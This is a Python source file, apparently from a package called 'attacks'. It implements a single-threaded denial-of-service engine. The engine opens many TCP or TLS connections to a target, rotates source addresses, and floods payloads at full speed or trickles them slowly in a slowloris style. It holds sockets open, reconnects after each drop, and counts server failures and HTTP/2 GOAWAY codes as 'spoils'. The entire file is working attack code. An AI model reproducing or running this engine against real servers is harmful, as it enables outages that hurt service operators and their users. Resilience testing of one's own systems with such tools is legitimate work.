"""Carries out an attack: one thread that sends as fast as it can on its connections."""

from __future__ import annotations

import errno
import selectors
import socket
import ssl
from collections import Counter
from dataclasses import dataclass, field
from itertools import cycle
from time import monotonic

from attacks.target import Target
from attacks.weapons import Ammunition, Weapon

PIECE = 1 << 18
TAIL = 4096
#: The maximum number of seconds to open the TCP connection of a TLS session.
CONNECT_WITHIN = 5.0
GOAWAY_CODES = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x2: "INTERNAL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x5: "STREAM_CLOSED",
    0x6: "FRAME_SIZE_ERROR",
    0x9: "COMPRESSION_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
}


@dataclass
class Spoils:
    """The counts of what the attacker has sent and received."""

    connections: int = 0
    sent: int = 0
    received: int = 0
    got: Counter[str] = field(default_factory=Counter)

    def summary(self) -> str:
        return ", ".join(f"{what} x{count}" for what, count in self.got.most_common(3)) or "nothing"


def goaway(tail: bytes) -> str | None:
    """Returns the error code of a GOAWAY frame at the end of the received bytes."""
    at = tail.rfind(b"\x07\x00\x00\x00\x00\x00")
    if at < 3 or len(tail) < at + 14:
        return None
    code = int.from_bytes(tail[at + 10 : at + 14], "big")
    return f"GOAWAY {GOAWAY_CODES.get(code, code)}"


class Shooter:
    """One connection of an attack."""

    __slots__ = ("at", "blob", "closed", "events", "first", "head", "opening", "socket", "tail", "waits")

    def __init__(
        self,
        target: Target,
        tls: ssl.SSLContext | None,
        weapon: Weapon,
        ammunition: Ammunition,
        source: str,
    ) -> None:
        plain = socket.socket()
        plain.setblocking(False)
        if source:
            plain.bind((source, 0))
        if weapon.receive_buffer is not None:
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, weapon.receive_buffer)
        if tls is None:
            plain.connect_ex(target.address)
            self.socket = plain
        else:
            plain.settimeout(CONNECT_WITHIN)
            plain.connect(target.address)
            plain.setblocking(False)
            # The handshake takes place when the first bytes are sent.
            self.socket = tls.wrap_socket(plain, server_hostname=target.host, do_handshake_on_connect=False)
        self.opening = True
        self.blob = memoryview(ammunition.opening or ammunition.blob)
        self.at = 0
        self.head = b""
        self.tail = b""
        self.closed = False
        self.first = True
        self.events = 0
        #: Whether the connection waits for the server's part of the TLS handshake.
        self.waits = False


class Attacker:
    """An attacker that uses a weapon against an address until its time is up."""

    def __init__(self, target: Target, weapon: Weapon) -> None:
        self._target = target
        self._tls = target.tls()
        self.weapon = weapon
        self.ammunition = weapon.load()
        self.spoils = Spoils()
        self._selector = selectors.DefaultSelector()
        self._shooters: set[Shooter] = set()
        self._sources = cycle(weapon.sources or ("",))

    def run(self, duration: float) -> Spoils:
        weapon = self.weapon
        end = monotonic() + duration
        for _ in range(weapon.connections):
            self._open()
        tick = monotonic()
        while (now := monotonic()) < end:
            if weapon.trickle and now >= tick:
                tick = now + 0.1
                for shooter in list(self._shooters):
                    self._shoot(shooter, weapon.trickle)
            until = min(end, tick) if weapon.trickle else end
            for key, events in self._selector.select(max(0.0, until - now)):
                shooter: Shooter = key.data
                if events & selectors.EVENT_READ:
                    self._read(shooter)
                if events & selectors.EVENT_WRITE and not shooter.closed:
                    self._shoot(shooter, PIECE)
        for shooter in list(self._shooters):
            self._note_head(shooter)
            self._drop(shooter, "left open", again=False)
        return self.spoils

    def _open(self) -> None:
        try:
            shooter = Shooter(self._target, self._tls, self.weapon, self.ammunition, next(self._sources))
        except OSError as error:
            self.spoils.got[errno.errorcode.get(error.errno or 0, "error")] += 1
            return
        self.spoils.connections += 1
        self._shooters.add(shooter)
        self._watch(shooter, writing=not self.weapon.trickle and len(shooter.blob) > 0)

    def _watch(self, shooter: Shooter, *, writing: bool) -> None:
        events = (selectors.EVENT_READ if self.weapon.reads else 0) | (
            selectors.EVENT_WRITE if writing else 0
        )
        if events == shooter.events:
            return
        if not shooter.events:
            self._selector.register(shooter.socket, events, shooter)
        elif not events:
            self._selector.unregister(shooter.socket)
        else:
            self._selector.modify(shooter.socket, events, shooter)
        shooter.events = events

    def _shoot(self, shooter: Shooter, size: int) -> None:
        # A slow attack also sends its opening at once.
        if shooter.opening:
            size = max(size, len(shooter.blob))
        try:
            sent = shooter.socket.send(shooter.blob[shooter.at : shooter.at + size])
        except ssl.SSLWantReadError:
            self._await_handshake(shooter)
            return
        except (BlockingIOError, ssl.SSLWantWriteError):
            return
        except OSError as error:
            if error.errno in (errno.ENOTCONN, errno.EAGAIN):
                return
            self._last_words(shooter)
            return
        self.spoils.sent += sent
        shooter.at += sent
        if shooter.at < len(shooter.blob):
            return
        shooter.at = 0
        if shooter.opening and self.ammunition.opening:
            shooter.opening = False
            shooter.blob = memoryview(self.ammunition.blob)
            if not shooter.blob:
                self._watch(shooter, writing=False)
        elif not self.ammunition.endless:
            shooter.opening = False
            # Everything has been sent. Now close, wait for the server to close, or stay connected without
            # reading.
            self._watch(shooter, writing=False)
            if self.weapon.leaves:
                self._drop(shooter, "all sent")
            elif self.weapon.reads and shooter.blob:
                socket.socket.shutdown(shooter.socket, socket.SHUT_WR)  # without ending the TLS session
        else:
            shooter.opening = False

    def _await_handshake(self, shooter: Shooter) -> None:
        """Resumes sending once the server has responded to the handshake. Even an attacker that reads nothing
        must wait for this.
        """
        if not self.weapon.trickle:
            self._selector.modify(shooter.socket, selectors.EVENT_READ, shooter)
            shooter.events = selectors.EVENT_READ
            shooter.waits = True

    def _read(self, shooter: Shooter) -> None:
        if shooter.waits:
            shooter.waits = False
            self._watch(shooter, writing=True)
            return
        try:
            received = shooter.socket.recv(1 << 18)
            while isinstance(shooter.socket, ssl.SSLSocket) and shooter.socket.pending():
                received += shooter.socket.recv(1 << 18)
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return
        except OSError:
            self._note_head(shooter)
            self._drop(shooter, goaway(shooter.tail) or "reset")
            return
        if not received:
            self._note_head(shooter)
            self._drop(shooter, goaway(shooter.tail) or "closed")
            return
        self.spoils.received += len(received)
        if not shooter.head:
            shooter.head = received[:16]
        shooter.tail = (shooter.tail + received)[-TAIL:] if len(received) < TAIL else received[-TAIL:]

    def _note_head(self, shooter: Shooter) -> None:
        if shooter.head.startswith(b"HTTP/1."):
            self.spoils.got["HTTP " + shooter.head[9:12].decode("latin-1")] += 1

    def _last_words(self, shooter: Shooter) -> None:
        """Reads the bytes that the server sent before it closed the connection, after a write has failed."""
        while True:
            try:
                received = shooter.socket.recv(1 << 18)
            except OSError:
                break
            if not received:
                break
            self.spoils.received += len(received)
            shooter.head = shooter.head or received[:16]
            shooter.tail = (shooter.tail + received)[-TAIL:]
        self._note_head(shooter)
        self._drop(shooter, goaway(shooter.tail) or "reset")

    def _drop(self, shooter: Shooter, why: str, *, again: bool = True) -> None:
        if shooter.closed:
            return
        shooter.closed = True
        self.spoils.got[why] += 1
        if shooter.events:
            self._selector.unregister(shooter.socket)
        shooter.socket.close()
        self._shooters.discard(shooter)
        if again and self.weapon.reconnects:
            self._open()
